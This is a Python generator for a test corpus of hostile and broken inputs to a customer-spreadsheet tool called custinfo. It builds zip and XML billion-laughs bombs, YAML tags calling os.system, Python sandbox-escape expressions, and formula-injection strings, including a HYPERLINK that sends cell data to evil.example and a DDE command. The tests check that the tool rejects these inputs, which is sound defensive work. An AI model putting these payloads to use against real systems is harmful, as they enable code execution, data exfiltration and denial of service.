"""The hostile/broken-input corpus: every case written by code, deterministically, into a folder.

    python tests/corpus/generate.py DIR      # writes every case's files into DIR (tests use tmp)

Each `Case` names the file it writes (its name is what the messages must quote), an optional
rules.yaml, the exit code `custinfo run` must give and words its message must contain. Nothing
here is committed as a binary: the largest file generated is ~60 KB (the zip bomb, which expands
to 64 MB), and `legacy.xls` / `sheet.ods` are copied from tests/data. Cases that need a tool
the environment may lack (msoffcrypto-tool for a real encrypted workbook) fall back to a
crafted file with the same first bytes.
"""

from __future__ import annotations

import codecs
import datetime as dt
import random
import shutil
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from unittest import mock

if __package__ in (None, ""):  # run as a script: make `tests` importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests.builders import (
    FIXED_TIME,
    Sheet,
    csv_file,
    customer_rows,
    inline_row,
    raw_xlsx,
    sheet_xml,
    xlsx,
)

DATA = Path(__file__).resolve().parents[1] / "data"
MB = 1024 * 1024
ZWSP, ZWJ, RLO, BOM = "\u200b", "\u200d", "\u202e", "\ufeff"

# Texts Excel would run as formulas if they reached a cell as formulas or a CSV as such (OWASP).
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


@dataclass(frozen=True)
class Case:
    name: str
    file: str  # the input file written into the case's folder
    build: Callable[[Path], object]  # writes the input at the given path
    exit: int  # what `custinfo run` exits with
    says: tuple[str, ...] = ()  # words the (Chinese) message must contain, besides the file name
    rules: str | None = None  # rules.yaml text, written beside the input when given
    names_file: bool = True  # the message quotes the input's name (rules cases quote rules.yaml)


# --- builders ---------------------------------------------------------------------------------


def good(path: Path) -> Path:
    return xlsx(path, {"客户信息": customer_rows(3)})


def _encrypted(path: Path) -> None:
    """A real password-protected workbook (ECMA-376 agile, password 1234) when msoffcrypto-tool
    is installed, its random salts and OLE timestamps fixed so the bytes repeat; else the OLE
    header alone (refused the same way)."""
    plain = good(path.with_name("plain.xlsx"))
    try:
        import msoffcrypto
        from msoffcrypto.method import ecma376_agile
        from msoffcrypto.method.container import ecma376_encrypted
    except ImportError:
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    else:

        class Fixed(dt.datetime):
            @classmethod
            def now(cls, tz: dt.tzinfo | None = None) -> Fixed:
                return cls(2024, 5, 1)

        with (
            mock.patch.object(ecma376_agile, "_random_buffer", random.Random(8).randbytes),
            mock.patch.object(ecma376_encrypted, "datetime", Fixed),
            plain.open("rb") as src,
            path.open("wb") as out,
        ):
            msoffcrypto.OfficeFile(src).encrypt("1234", out)
    plain.unlink()


def _truncated(path: Path) -> None:
    data = good(path).read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _corrupt(path: Path) -> None:
    """Bytes flipped in the middle of the sheet's compressed data (the zip directory intact)."""
    xlsx(path, {"客户信息": customer_rows(200)})
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    name_len, extra_len = struct.unpack(
        "<HH", data[info.header_offset + 26 : info.header_offset + 30]
    )
    start = info.header_offset + 30 + name_len + extra_len
    for i in range(start + info.compress_size // 2, start + info.compress_size // 2 + 16):
        data[i] ^= 0xFF
    path.write_bytes(bytes(data))


def _rows(n: int) -> str:
    """n customer rows as inline strings, from row 2."""
    return "".join(inline_row(r, f"客户{r}有限公司", f"1380013{r:04d}") for r in range(2, n + 2))


HEADER_ROW = inline_row(1, "客户名称", "联系电话")


def _zip_bomb(path: Path) -> None:
    """A sheet part that expands 1000-fold: 64 MB of blanks inside <sheetData>."""
    body = HEADER_ROW + _rows(2) + " " * (64 * 1024 * 1024)
    raw_xlsx(path, sheet_xml(body, dimension="A1:B3"))


def _big_part(path: Path) -> None:
    """An honest sheet part of 3 MB (a comment repeating 1 KB of noise: ratio about 100:1),
    refused only under lowered limits."""
    noise = random.Random(3).randbytes(512).hex()
    body = HEADER_ROW + _rows(2) + f"<!--{noise * 3 * 1024}-->"
    raw_xlsx(path, sheet_xml(body, dimension="A1:B3"))


def _lying_sizes(path: Path) -> None:
    """The zip bomb with headers claiming its sheet part expands to 1 MB, not 64."""
    _zip_bomb(path)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
        at = zf.start_dir  # type: ignore[attr-defined]
    struct.pack_into("<I", data, info.header_offset + 22, MB)  # local header
    while data[at : at + 4] == b"PK\x01\x02":  # central directory entries
        name_len, extra_len, comment_len = struct.unpack("<HHH", data[at + 28 : at + 34])
        if data[at + 46 : at + 46 + name_len] == info.filename.encode():
            struct.pack_into("<I", data, at + 24, MB)
        at += 46 + name_len + extra_len + comment_len
    path.write_bytes(bytes(data))


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def _laughs(path: Path) -> None:
    raw_xlsx(path, sheet_xml(inline_row(1, "客户名称", "&lol9;"), prolog=LAUGHS))


def _laughs_late(path: Path) -> None:
    """The DOCTYPE after 8 KB of comment, past what a quick look at a part's start would see."""
    prolog = "<!--" + "x" * 8192 + "-->" + LAUGHS
    raw_xlsx(path, sheet_xml(inline_row(1, "客户名称", "&lol9;"), prolog=prolog))


def _laughs_strings(path: Path) -> None:
    strings = (
        f'<?xml version="1.0" encoding="UTF-8"?>{LAUGHS}'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    raw_xlsx(path, sheet_xml(HEADER_ROW), extra={"xl/sharedStrings.xml": strings})


def _fake_xlsb(path: Path) -> None:
    """A zip laid out like .xlsb whose binary workbook part is garbage."""
    _zip(
        path,
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "xl/workbook.bin": bytes(range(256)) * 4,
        },
    )


def _zip(path: Path, parts: dict[str, str | bytes]) -> None:
    """A zip of `parts`, every entry dated FIXED_TIME (the same bytes every time)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(
                zipfile.ZipInfo(name, FIXED_TIME.timetuple()[:6]), data, zipfile.ZIP_DEFLATED
            )


def _text_as(text: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_text(text, encoding="utf-8")

    return build


def _copy(name: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        shutil.copyfile(DATA / name, path)

    return build


def _cells(path: Path, *, dimension: str | None, far: str) -> None:
    """Header, one customer, and one more cell at `far` (e.g. A1048576, XFD3)."""
    letters = far.rstrip("0123456789")
    row = far[len(letters) :]
    far_cell = f'<row r="{row}"><c r="{far}" t="inlineStr"><is><t>乙公司</t></is></c></row>'
    raw_xlsx(path, sheet_xml(HEADER_ROW + _rows(1) + far_cell, dimension=dimension))


def _far_cell_odd_order(path: Path) -> None:
    """The lying dimension again, the far cell's r= after its other attributes."""
    far = '<row r="3"><c t="inlineStr" r="XFD1048576"><is><t>x</t></is></c></row>'
    raw_xlsx(path, sheet_xml(HEADER_ROW + _rows(1) + far, dimension="A1:B2"))


def _ods_repeat_bomb(path: Path) -> None:
    """A 1 KB .ods whose one row of one cell is repeated 5,000 × 16,384 times (82 million cells)."""
    ns = "urn:oasis:names:tc:opendocument:xmlns"
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{ns}:office:1.0" '
        f'xmlns:table="{ns}:table:1.0" xmlns:text="{ns}:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="客户信息">'
        f"<table:table-row>{cell.format('客户名称')}{cell.format('联系电话')}</table:table-row>"
        '<table:table-row table:number-rows-repeated="5000">'
        + cell.replace(
            "<table:table-cell ", '<table:table-cell table:number-columns-repeated="16384" '
        ).format("x")
        + "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    _zip(
        path, {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content}
    )


def _merged_header(path: Path) -> None:
    """A two-row header: 联系方式 merged over 联系电话 and 电子邮箱 (named in the row below), the
    other headers merged down over both rows."""
    import xlsxwriter

    down = ("客户名称", None, None, "客户类型", "所属行业", "客户状态", "负责人")
    rows = [
        ("甲有限公司", "13800138000", "a@example.com", "企业", "制造业", "潜在客户", "张经理"),
        ("乙有限公司", "13900139000", "", "企业", "制造业", "潜在客户", "张经理"),
    ]
    wb = xlsxwriter.Workbook(str(path))
    wb.set_properties({"created": FIXED_TIME})
    ws = wb.add_worksheet("客户信息")
    for c, text in enumerate(down):
        if text:
            ws.merge_range(0, c, 1, c, text)
    ws.merge_range(0, 1, 0, 2, "联系方式")
    ws.write_string(1, 1, "联系电话")
    ws.write_string(1, 2, "电子邮箱")
    for r, row in enumerate(rows, 2):
        for c, value in enumerate(row):
            ws.write_string(r, c, value)
    wb.close()


def _formulas(path: Path) -> None:
    """客户名称 from a formula with its cached value (B2); 联系电话 of the second row a formula
    saved without one (C3), as a script writing formulas leaves it until Excel recalculates."""
    rows = (
        f'<row r="1">{_is("A1", "客户编号")}{_is("B1", "客户名称")}{_is("C1", "联系电话")}</row>'
        f'<row r="2">{_is("A2", "C202405001")}'
        '<c r="B2" t="str"><f>"甲"&amp;"有限公司"</f><v>甲有限公司</v></c>'
        f"{_is('C2', '13800138000')}</row>"
        f'<row r="3">{_is("A3", "C202405002")}{_is("B3", "乙有限公司")}'
        '<c r="C3"><f>TEXT(13900139000,"0")</f></c></row>'
    )
    raw_xlsx(path, sheet_xml(rows, dimension="A1:C3"))


def _is(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _hidden_customers(path: Path) -> None:
    """The only customer sheet is hidden; the visible one is an instructions sheet."""
    xlsx(
        path,
        {
            "填写说明": [["请在客户信息表中填写"]],
            "客户信息": Sheet(customer_rows(2), hidden=True),
        },
    )


def _very_hidden(path: Path) -> None:
    """A visible customer sheet and a very hidden one (state="veryHidden", only VBA shows it)."""
    xlsx(
        path,
        {"客户信息": customer_rows(2), "内部": Sheet(customer_rows(5), hidden=True)},
    )
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b'state="hidden"', b'state="veryHidden"'
    )
    _zip(path, parts)


LONG = 32_767


def _long_cells(path: Path) -> None:
    """备注 and 客户名称 of exactly 32,767 characters (Excel's cell limit)."""
    rows = customer_rows(2)
    header = (*rows[0], "备注")
    long_name = ("超长名称有限公司" * 5000)[:LONG]
    xlsx(
        path,
        {
            "客户信息": [
                header,
                (*rows[1], "备" * LONG),
                (rows[2][0], long_name, *rows[2][2:], "=" + "长" * (LONG - 1)),
            ]
        },
    )


def _unicode(path: Path) -> None:
    """Emoji, zero-width and right-to-left marks inside names, phones and companies; the first
    two records are one customer typed twice (the second with invisible characters)."""
    header = (
        "客户编号",
        "客户名称",
        "联系人",
        "联系电话",
        "客户类型",
        "所属行业",
        "客户状态",
        "负责人",
    )
    rest = ("企业", "制造业", "潜在客户", "张经理")
    xlsx(
        path,
        {
            "客户信息": [
                header,
                ("C202405001", "深圳市星河科技有限公司", "王总", "13800138000", *rest),
                (
                    "C202405002",
                    f"深圳市{ZWSP}星河科技{ZWJ}有限公司",
                    f"王{ZWSP}总",
                    f"138{ZWSP}0013{BOM}8000",
                    *rest,
                ),
                ("C202405003", "🚀火箭😀贸易有限公司", "李经理🎉", "13900139000", *rest),
                ("C202405004", f"{RLO}司公限有易贸", "שלום", f"{RLO}13700137000", *rest),
            ]
        },
    )


CSV_ROWS = customer_rows(2)


def _csv(encoding: str, bom: bytes = b"") -> Callable[[Path], None]:
    def build(path: Path) -> None:
        csv_file(path, CSV_ROWS, encoding=encoding)
        path.write_bytes(bom + path.read_bytes())

    return build


def _csv_long(path: Path) -> None:
    """A CSV cell of 40,000 characters: fine in CSV, past what an Excel cell holds."""
    header, row = customer_rows(1)
    csv_file(path, [(*header, "备注"), (*row, "长" * 40_000)])


def _csv_mixed(path: Path) -> None:
    """UTF-8, but one row pasted in from a GBK file."""
    text = "客户名称,联系电话,负责人\r\n甲有限公司,13800138000,张经理\r\n"
    path.write_bytes(
        text.encode("utf-8") + "乙有限公司,13900139000,李经理\r\n".encode("gbk") + b"x,1,y\r\n"
    )


def _csv_invalid(path: Path) -> None:
    """Bytes no text encoding explains (what a half-overwritten file looks like)."""
    path.write_bytes(
        "客户名称,联系电话\r\n".encode() + bytes([0x81, 0x30, 0xFF, 0xFE, 0x80, 0x2C]) * 40
    )


def _injection_xlsx(path: Path) -> None:
    """Every injection text in 客户名称, 联系人, 联系电话, 公司 and 备注 cells, typed as text."""
    header = ("客户编号", "客户名称", "联系人", "联系电话", "负责人", "备注")
    rows = [header]
    for i, text in enumerate(INJECTIONS, 1):
        rows.append((f"C2024050{i:02d}", text, text, text, "张经理", text))
    xlsx(path, {"客户信息": rows})


def _injection_csv(path: Path) -> None:
    rows = [("客户名称", "联系人", "联系电话", "备注")]
    rows += [(t, t, t, t) for t in INJECTIONS]
    csv_file(path, rows)


def _bad_sheet_name(path: Path) -> None:
    """Sheet names no Excel would save: a slash, 40 characters, and the reserved History."""
    raw_xlsx(path, sheet_xml(HEADER_ROW + _rows(1)), name="客户/信息" + "很长" * 20)


# --- rules.yaml ---------------------------------------------------------------------------------

NEST = 10_000


def _alias_bomb() -> str:
    """Billion laughs in YAML: nine levels of nine aliases, 9**9 items once expanded."""
    lines = ["x-bomb:", '  a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        lines.append(f"  a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def _condition(when: str) -> str:
    return f"validate:\n  rules:\n    - name: 试探\n      when: {when}\n      message: 不应出现\n"


# --- the corpus -------------------------------------------------------------------------------

GOOD_FILE = "客户.xlsx"

CASES: tuple[Case, ...] = (
    # files that are not what they say
    Case("encrypted", "加密.xlsx", _encrypted, 2, ("密码",)),
    Case("encrypted named xls", "加密.xls", _encrypted, 2, ("密码",)),
    Case("truncated zip", "半截.xlsx", _truncated, 2, ("损坏",)),
    Case("corrupt zip", "坏块.xlsx", _corrupt, 2, ("损坏",)),
    Case(
        "csv named xlsx", "文本.xlsx", _text_as("客户名称,联系电话\n甲,138\n"), 2, ("CSV", "另存为")
    ),
    Case("html named xlsx", "网页.xlsx", _text_as("<html><table><tr><td>客户名称"), 2, ("HTML",)),
    Case("fake xlsb", "二进制.xlsb", _fake_xlsb, 2, ("另存为",)),
    # bombs
    Case("zip bomb", "炸弹.xlsx", _zip_bomb, 2, ("压缩炸弹", "max_compression_ratio")),
    Case(
        "lowered size limit",
        "三兆.xlsx",
        _big_part,
        2,
        ("解压后", "上限 2 MB", "max_uncompressed_mb"),
        rules="input:\n  max_uncompressed_mb: 2\n",
    ),
    Case(
        "lowered ratio limit",
        "三兆比例.xlsx",
        _big_part,
        2,
        ("压缩比", "上限 10:1"),
        rules="input:\n  max_compression_ratio: 10\n",
    ),
    Case("zip sizes that lie", "谎报.xlsx", _lying_sizes, 2, ("损坏",)),
    Case("billion laughs", "笑声.xlsx", _laughs, 2, ("DOCTYPE",)),
    Case("billion laughs after a comment", "笑声2.xlsx", _laughs_late, 2, ("DOCTYPE",)),
    Case("billion laughs in shared strings", "笑声3.xlsx", _laughs_strings, 2, ("DOCTYPE",)),
    # sizes at and past Excel's limits
    Case(
        "rows past Excel's limit",
        "超行.xlsx",
        lambda p: _cells(p, dimension="A1:B1048577", far="A1048577"),
        2,
        ("1,048,576",),
    ),
    Case(
        "columns past XFD",
        "超列.xlsx",
        lambda p: _cells(p, dimension="A1:XFE3", far="XFE3"),
        2,
        ("16,384",),
    ),
    Case(
        "dimension that lies",
        "谎报区域.xlsx",
        lambda p: _cells(p, dimension="A1:B2", far="XFD1048576"),
        2,
        ("上限",),
    ),
    Case("ods repeat bomb", "重复.ods", _ods_repeat_bomb, 2, ("5,001 行 × 16,384 列", "上限")),
    Case("far cell, attributes reordered", "乱序.xlsx", _far_cell_odd_order, 2, ("上限",)),
    # rules.yaml that tries to run code or exhaust the parser
    Case(
        "yaml python object",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "第 2 行", "标签"),
        rules="input:\n  sheet: !!python/object/apply:os.system ['touch pwned']\n",
        names_file=False,
    ),
    Case(
        "yaml python name",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "第 1 行", "标签"),
        rules="dedupe: !!python/name:os.system\n",
        names_file=False,
    ),
    Case(
        "yaml deep nesting",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "嵌套"),
        rules="input: " + "[" * NEST + "]" * NEST + "\n",
        names_file=False,
    ),
    Case(
        "yaml alias bomb",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "别名"),
        rules=_alias_bomb(),
        names_file=False,
    ),
    Case(
        "condition __import__",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "第 4 行", "validate.rules[0].when", "__import__"),
        rules=_condition("__import__('os')"),
        names_file=False,
    ),
    Case(
        "condition class walk",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "第 4 行", "属性"),
        rules=_condition("().__class__.__bases__[0].__subclasses__()"),
        names_file=False,
    ),
    Case(
        "condition attribute",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "第 4 行", "属性"),
        rules=_condition("客户名称.upper() == 'A'"),
        names_file=False,
    ),
    Case(
        "condition lambda",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "第 4 行", "lambda"),
        rules=_condition('"(lambda: 1)() == 1"'),
        names_file=False,
    ),
    Case(
        "condition f-string",
        GOOD_FILE,
        good,
        2,
        ("rules.yaml", "第 4 行", "f 字符串"),
        rules=_condition("\"f'{1+1}' == '2'\""),
        names_file=False,
    ),
    # files custinfo reads (exit 1: the small samples have findings at error level)
    Case("xls", "旧版.xls", _copy("legacy.xls"), 1),
    Case("ods", "开放格式.ods", _copy("sheet.ods"), 1),
    Case(
        "1,048,576 rows",
        "满行.xlsx",
        lambda p: _cells(p, dimension="A1:B1048576", far="A1048576"),
        1,
    ),
    Case("16,384 columns", "满列.xlsx", lambda p: _cells(p, dimension="A1:XFD3", far="XFD3"), 1),
    Case("merged header", "合并表头.xlsx", _merged_header, 0),
    Case("formulas", "公式.xlsx", _formulas, 1),  # C3 is required and reads as blank
    Case("hidden customer sheet", "隐藏.xlsx", _hidden_customers, 2, ("隐藏", "--sheet 客户信息")),
    Case("very hidden sheet", "深度隐藏.xlsx", _very_hidden, 0),
    Case("32767-character cells", "超长.xlsx", _long_cells, 0),
    Case("emoji, zero-width, RTL", "字符.xlsx", _unicode, 0),
    Case("csv gbk", "国标.csv", _csv("gbk"), 0),
    Case("csv utf-16 le", "小端.csv", _csv("utf-16-le", codecs.BOM_UTF16_LE), 0),
    Case("csv utf-16 be", "大端.csv", _csv("utf-16-be", codecs.BOM_UTF16_BE), 0),
    Case("csv cell past Excel's limit", "长文本.csv", _csv_long, 0),
    Case("csv mixed encodings", "混合.csv", _csv_mixed, 2, ("第 3 行", "UTF-8")),
    Case("csv invalid bytes", "乱码.csv", _csv_invalid, 2, ("编码",)),
    Case("formula injection", "注入.xlsx", _injection_xlsx, 1),
    Case("formula injection csv", "注入.csv", _injection_csv, 1),
    Case("sheet name Excel forbids", "表名.xlsx", _bad_sheet_name, 1),
)
BY_NAME = {c.name: c for c in CASES}


def generate(case: Case, folder: Path) -> tuple[Path, Path | None]:
    """Write `case` into `folder` (created); return (input, rules.yaml or None)."""
    folder.mkdir(parents=True, exist_ok=True)
    src = folder / case.file
    case.build(src)
    rules = None
    if case.rules is not None:
        rules = folder / "rules.yaml"
        rules.write_text(case.rules, encoding="utf-8")
    return src, rules


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__.strip().splitlines()[2].strip())
        return 2
    out = Path(argv[0])
    for i, case in enumerate(CASES):
        src, _ = generate(case, out / f"{i:02d}")
        print(f"{src}  ({case.name})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
